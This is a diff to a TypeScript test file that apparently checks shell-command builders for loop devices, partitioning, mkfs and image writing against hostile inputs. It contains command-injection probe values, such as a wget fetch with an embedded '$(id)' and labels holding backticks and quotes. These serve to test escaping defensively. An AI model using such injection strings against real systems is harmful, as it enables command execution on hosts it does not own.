@@ -21,7 +21,7 @@ import { fsSignature } from "../../facts/block/fs-signature.js";
 import { attachCommand } from "../../operations/disk/loop.js";
 import { partitionScript } from "../../operations/disk/partition.js";
 import { mkfsCommand } from "../../operations/disk/mkfs.js";
-import { writeCommand } from "../../operations/image/write.js";
+import { imageScript } from "../../operations/image/script.js";
 import { installCommand as busyboxInstall } from "../../operations/busybox/linkfarm.js";
 import { filesystem } from "../../facts/block/filesystem.js";
 import { partitions } from "../../facts/block/partitions.js";
@@ -55,7 +55,8 @@ const commands: Record<string, string> = {
   applets: missingApplets(hostile).command,
   fsSignature: fsSignature(hostile).command,
   loopAttach: attachCommand({ utilLinux: "/sbin/losetup", version: "2.38", fallback: "losetup" }, { backing: hostile, kind: "file", offset: 512, sizeLimit: 1024, partscan: true, readOnly: true }),
-  imageWrite: writeCommand({ device: hostile, fetch: "wget -q -O - 'http://x/$(id)'", gzip: true, size: 4096, sha: "0".repeat(64), staging: hostile, sourceSha: "1".repeat(64), label: "`id` $(id) 'q'" }),
+  imageWrite: imageScript({ device: hostile, workDir: hostile, fetch: "wget -q -O - 'http://x/$(id)'", staging: hostile, format: "tar.gz", member: hostile, sourceSha256: "1".repeat(64), size: 4096, imageSha256: "0".repeat(64), checkFirst: true }),
+  imageWriteStdin: imageScript({ device: hostile, workDir: hostile, fetch: null, staging: null, format: "raw", member: "image.pine", sourceSha256: "1".repeat(64), size: null, imageSha256: null, checkFirst: false }),
   partition: partitionScript(hostile, { device: hostile, sizeBytes: 1 << 30, sectorSize: 512, label: "dos", labelId: null, partitions: [], sfdiskVersion: "2.38", dump: hostile }, [{ number: 5, start: 2048, size: 4096, type: "83", bootable: true }], true),
   partitionBlank: partitionScript(hostile, { device: hostile, sizeBytes: 1 << 30, sectorSize: 512, label: null, labelId: null, partitions: [], sfdiskVersion: "2.38", dump: "" }, [{ number: 1, start: 2048, size: 4096, type: "83", bootable: false }], false),
   mkfs: mkfsCommand({ device: hostile, fstype: "xfs", label: "a'b", logDevice: hostile, logSizeMiB: 128, force: true }),
